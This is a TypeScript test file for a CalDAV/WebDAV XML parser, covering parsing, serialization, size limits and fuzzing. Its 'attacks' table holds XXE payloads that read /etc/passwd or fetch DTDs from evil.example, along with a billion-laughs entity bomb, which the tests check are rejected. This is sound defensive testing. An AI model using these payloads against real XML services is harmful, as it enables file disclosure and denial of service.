import { describe, expect, it } from 'vitest';
import fc from 'fast-check';
import {
  DavParseError,
  NS_CALDAV,
  NS_DAV,
  el,
  matchesFilter,
  parseExtendedMkcol,
  parseMkcalendar,
  parsePropfind,
  parseProppatch,
  parseReport,
  parseXml,
  serializeXml,
  type XmlElement,
} from '../../../src/lib/dav/index.js';
import ICAL from 'ical.js';

function parseErrorOf(fn: () => unknown): DavParseError {
  try {
    fn();
  } catch (err) {
    expect(err).toBeInstanceOf(DavParseError);
    return err as DavParseError;
  }
  throw new Error('expected a DavParseError');
}

describe('parseXml', () => {
  it('builds a namespace-aware tree; xmlns attributes are dropped, others kept', () => {
    const t = parseXml('<a:x xmlns:a="urn:a" xmlns="urn:d" y="1" a:z="2"><b>hi<![CDATA[ <there> ]]></b></a:x>');
    expect(t).toEqual({
      ns: 'urn:a',
      name: 'x',
      attrs: { y: '1', '{urn:a}z': '2' },
      text: '',
      children: [{ ns: 'urn:d', name: 'b', attrs: {}, children: [], text: 'hi <there> ' }],
    });
  });

  it('accepts a UTF-8 BOM and decodes character references', () => {
    expect(parseXml('\uFEFF<a xmlns="DAV:">&#65;&amp;&lt;</a>').text).toBe('A&<');
  });

  const attacks: Record<string, string> = {
    'XXE file': `<?xml version="1.0"?><!DOCTYPE foo [<!ENTITY xxe SYSTEM "file:///etc/passwd">]><D:propfind xmlns:D="DAV:"><D:prop><D:displayname>&xxe;</D:displayname></D:prop></D:propfind>`,
    'XXE http': `<?xml version="1.0"?><!DOCTYPE foo SYSTEM "http://evil.example/x.dtd"><D:propfind xmlns:D="DAV:"><D:allprop/></D:propfind>`,
    'billion laughs': `<?xml version="1.0"?><!DOCTYPE lolz [<!ENTITY lol "lol"><!ENTITY lol2 "&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;"><!ENTITY lol3 "&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;">]><lolz>&lol3;</lolz>`,
    'bare DOCTYPE': '<!DOCTYPE propfind><propfind xmlns="DAV:"><allprop/></propfind>',
    'parameter entity': '<!DOCTYPE x [<!ENTITY % p SYSTEM "http://evil.example/p">%p;]><x/>',
    'undefined entity without DTD': '<D:propfind xmlns:D="DAV:"><D:prop>&nope;</D:prop></D:propfind>',
  };
  for (const [name, body] of Object.entries(attacks)) {
    it(`rejects ${name}`, () => {
      const err = parseErrorOf(() => parsePropfind(body));
      expect(err.code).toBe('BAD_XML');
      expect(err.message).not.toMatch(/root:/); // never leaks file content
    });
  }

  const malformed = [
    '<D:propfind xmlns:D="DAV:">',
    '<D:propfind xmlns:D="DAV:"></D:prop>',
    '<a></a><b></b>',
    'just text',
    '<x:a/>', // unbound prefix
    '<a b="1" b="2"/>',
    '<a>\u0001</a>',
    '<?xml version="1.0"?>',
  ];
  for (const body of malformed) {
    it(`rejects malformed ${JSON.stringify(body)}`, () => {
      expect(parseErrorOf(() => parseXml(body)).code).toBe('BAD_XML');
    });
  }

  it('enforces size, depth and element-count limits', () => {
    expect(parseErrorOf(() => parseXml('<a/>'.padEnd(100, ' '), { maxLength: 50 })).message).toMatch(/exceeds/);
    const deep = '<a>'.repeat(100) + '</a>'.repeat(100);
    expect(parseErrorOf(() => parseXml(deep)).message).toMatch(/deeper/);
    const many = `<a>${'<b/>'.repeat(200)}</a>`;
    expect(parseErrorOf(() => parseXml(many, { maxElements: 100 })).message).toMatch(/More than/);
  });
});

describe('serializeXml', () => {
  it('uses stable prefixes and generates ones for unknown namespaces', () => {
    const tree = el(NS_DAV, 'multistatus', [
      el('http://calendarserver.org/ns/', 'getctag', [], '1'),
      el('http://apple.com/ns/ical/', 'calendar-color', [], '#fff'),
      el(NS_CALDAV, 'calendar-data'),
      el('urn:x-unknown', 'thing'),
      el('urn:y', 'other'),
    ]);
    const out = serializeXml(tree, { declaration: false });
    expect(out).toBe(
      '<D:multistatus xmlns:D="DAV:" xmlns:C="urn:ietf:params:xml:ns:caldav" xmlns:CS="http://calendarserver.org/ns/" xmlns:A="http://apple.com/ns/ical/" xmlns:x0="urn:x-unknown" xmlns:x1="urn:y">' +
        '<CS:getctag>1</CS:getctag><A:calendar-color>#fff</A:calendar-color><C:calendar-data/><x0:thing/><x1:other/></D:multistatus>',
    );
  });

  it('keeps xml:lang on the predeclared xml prefix', () => {
    const t = parseXml('<D:displayname xmlns:D="DAV:" xml:lang="de">Arbeit</D:displayname>');
    const out = serializeXml(t, { declaration: false });
    expect(out).toBe('<D:displayname xmlns:D="DAV:" xml:lang="de">Arbeit</D:displayname>');
    expect(parseXml(out)).toEqual(t);
  });

  it('escapes text and attributes and survives a reparse', () => {
    const nasty = `<&>"' ]]> \r\n\u0000`;
    const tree = el('urn:"odd"&ns', 'p', [], nasty, { a: nasty });
    const back = parseXml(serializeXml(tree));
    expect(back.ns).toBe('urn:"odd"&ns');
    expect(back.text).toBe(`<&>"' ]]> \n\uFFFD`); // CR normalised by XML, NUL replaced
    expect(back.attrs['a']).toBe(`<&>"' ]]> \r\n\uFFFD`);
  });
});

// ---------------------------------------------------------------------------------------------
// Property tests: whatever arrives, parsers fail only with DavParseError.

const NAMES = [
  'propfind', 'prop', 'allprop', 'propname', 'include', 'propertyupdate', 'set', 'remove', 'mkcol',
  'mkcalendar', 'resourcetype', 'calendar-query', 'calendar-multiget', 'sync-collection', 'sync-token',
  'sync-level', 'limit', 'nresults', 'free-busy-query', 'filter', 'comp-filter', 'prop-filter',
  'param-filter', 'text-match', 'is-not-defined', 'time-range', 'calendar-data', 'comp', 'expand',
  'limit-recurrence-set', 'href', 'expand-property', 'property', 'principal-property-search',
  'property-search', 'match', 'calendarserver-principal-search', 'search-token', 'timezone',
];
const NSS = [NS_DAV, NS_CALDAV, 'http://calendarserver.org/ns/', 'urn:x'];
const ATTR_VALUES = ['VCALENDAR', 'VEVENT', 'VTODO', 'VALARM', 'SUMMARY', 'PARTSTAT', '20240101T000000Z', '20250101T000000Z', 'yes', 'no', 'i;octet', 'i;klingon', 'equals', '1', 'infinity', '', 'x'];

const treeArb: fc.Arbitrary<XmlElement> = fc.letrec((tie) => ({
  node: fc.record({
    ns: fc.constantFrom(...NSS),
    name: fc.constantFrom(...NAMES),
    attrs: fc.dictionary(fc.constantFrom('name', 'start', 'end', 'collation', 'negate-condition', 'match-type', 'namespace', 'test', 'novalue', 'context'), fc.constantFrom(...ATTR_VALUES), { maxKeys: 3 }),
    children: fc.oneof(
      { maxDepth: 5, depthIdentifier: 'tree' },
      fc.constant<XmlElement[]>([]),
      fc.array(tie('node') as fc.Arbitrary<XmlElement>, { maxLength: 4 }),
    ),
    text: fc.oneof(fc.constant(''), fc.constantFrom(...ATTR_VALUES), fc.string({ maxLength: 8 })),
  }),
})).node;

const SAMPLE = ICAL.Component.fromString(
  'BEGIN:VCALENDAR\r\nVERSION:2.0\r\nPRODID:-//x//x//EN\r\nBEGIN:VEVENT\r\nUID:a\r\nDTSTAMP:20240101T000000Z\r\nDTSTART:20240110T100000Z\r\nRRULE:FREQ=DAILY;COUNT=5\r\nSUMMARY:Hi\r\nATTENDEE;PARTSTAT=ACCEPTED:mailto:a@b\r\nBEGIN:VALARM\r\nACTION:DISPLAY\r\nTRIGGER:-PT5M\r\nEND:VALARM\r\nEND:VEVENT\r\nBEGIN:VTODO\r\nUID:b\r\nDUE:20240105T000000Z\r\nEND:VTODO\r\nEND:VCALENDAR\r\n',
);

function allParsers(input: string | XmlElement): void {
  const guarded = (fn: () => unknown) => {
    try {
      fn();
    } catch (err) {
      if (!(err instanceof DavParseError)) throw err;
    }
  };
  guarded(() => parsePropfind(input));
  guarded(() => parseProppatch(input));
  guarded(() => parseMkcalendar(input));
  guarded(() => parseExtendedMkcol(input));
  guarded(() => {
    const tree = typeof input === 'string' ? parseXml(input) : input;
    const r = parseReport(tree);
    // Anything that parses must also evaluate without throwing.
    if (r.kind === 'calendar-query') matchesFilter(SAMPLE, r.filter, { maxInstances: 50 });
  });
}

describe('fuzz', () => {
  it('random strings only ever raise DavParseError', () => {
    fc.assert(fc.property(fc.string({ maxLength: 200 }), (s) => allParsers(s)), { numRuns: 500 });
  });

  it('random XML-ish strings only ever raise DavParseError', () => {
    const token = fc.constantFrom('<', '>', '</', '/>', '<D:prop>', '</D:prop>', 'xmlns:D="DAV:"', '<!DOCTYPE', '&amp;', '&x;', '<![CDATA[', ']]>', '"', '=', ' ', 'a', '<?xml version="1.0"?>');
    fc.assert(fc.property(fc.array(token, { maxLength: 30 }), (ts) => allParsers(ts.join(''))), { numRuns: 500 });
  });

  it('random DAV trees (serialized and as trees) only ever raise DavParseError', () => {
    fc.assert(
      fc.property(treeArb, (tree) => {
        allParsers(tree);
        allParsers(serializeXml(tree));
        expect(parseXml(serializeXml(tree))).toBeTruthy();
      }),
      { numRuns: 400 },
    );
  });
});
